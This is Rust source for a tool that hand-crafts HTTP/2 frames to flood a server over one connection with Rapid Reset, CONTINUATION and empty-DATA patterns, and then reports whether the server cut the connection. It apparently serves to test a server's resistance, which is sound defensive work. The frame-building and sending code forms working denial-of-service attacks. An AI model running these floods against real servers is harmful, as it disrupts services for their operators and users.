//! HTTP/2 by hand (RFC 9113): floods of frames that no library would send.

use std::io::{ErrorKind, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

/// What a connection begins with (section 3.4), and settings that say nothing.
const GREETING: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// Frame types of section 6.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const CONTINUATION: u8 = 9;
/// Flags of HEADERS: no body follows, and the header is whole.
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// Why a request is given up: it is not needed any more.
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
/// POST, http, "/auth" and "localhost", by their index or as plain text (RFC 7541).
const HEADER: &[u8] = b"\x83\x86\x04\x05/auth\x01\x09localhost";
/// A header line, `a: b`, as plain text.
const LINE: &[u8] = b"\0\x01a\x01b";
/// How many frames are sent at once.
const AT_ONCE: u32 = 100;
/// How long a flood goes on if nobody stops it.
const PATIENCE: Duration = Duration::from_secs(3);

/// What comes over and over again.
#[derive(Clone, Copy, Debug)]
pub enum Flood {
    /// A request that is given up at once.
    RapidReset,
    /// More of one header.
    Continuation,
    /// Empty pieces of one body.
    EmptyData,
}

/// How a flood ended.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Ended {
    /// The server closed the connection.
    Closed,
    /// The server took everything.
    Never,
}

impl Flood {
    fn frame(self, number: u32) -> Vec<u8> {
        match (self, number) {
            (Flood::RapidReset, _) => {
                let stream = 1 + 2 * number;
                let asked = frame(HEADERS, END_HEADERS | END_STREAM, stream, HEADER);
                [asked, frame(RST_STREAM, 0, stream, &CANCEL)].concat()
            }
            (Flood::Continuation, 0) => frame(HEADERS, 0, 1, HEADER),
            (Flood::Continuation, _) => frame(CONTINUATION, 0, 1, LINE),
            (Flood::EmptyData, 0) => frame(HEADERS, END_HEADERS, 1, HEADER),
            (Flood::EmptyData, _) => frame(DATA, 0, 1, b""),
        }
    }

    /// Sends it over one connection, until the server closes that. What the server says is read and not answered.
    pub fn send(self, address: SocketAddr) -> anyhow::Result<Ended> {
        let mut stream = TcpStream::connect(address)?;
        stream.write_all(GREETING)?;
        stream.set_nonblocking(true)?;
        let began = Instant::now();
        let (mut number, mut unsent) = (0, Vec::new());
        let mut chunk = [0; 16 * 1024];
        while began.elapsed() < PATIENCE {
            if unsent.is_empty() {
                unsent.extend((number..number + AT_ONCE).flat_map(|number| self.frame(number)));
                number += AT_ONCE;
            }
            match stream.write(&unsent) {
                Ok(sent) => drop(unsent.drain(..sent)),
                Err(cause) if cause.kind() == ErrorKind::WouldBlock => std::thread::sleep(Duration::from_millis(1)),
                Err(_) => return Ok(Ended::Closed),
            }
            match stream.read(&mut chunk) {
                Ok(read) if read > 0 => {}
                Err(cause) if cause.kind() == ErrorKind::WouldBlock => {}
                Ok(_) | Err(_) => return Ok(Ended::Closed),
            }
        }
        Ok(Ended::Never)
    }
}

/// The bytes of one frame (section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, a, b, c] = (payload.len() as u32).to_be_bytes();
    [&[a, b, c, kind, flags][..], &stream.to_be_bytes(), payload].concat()
}
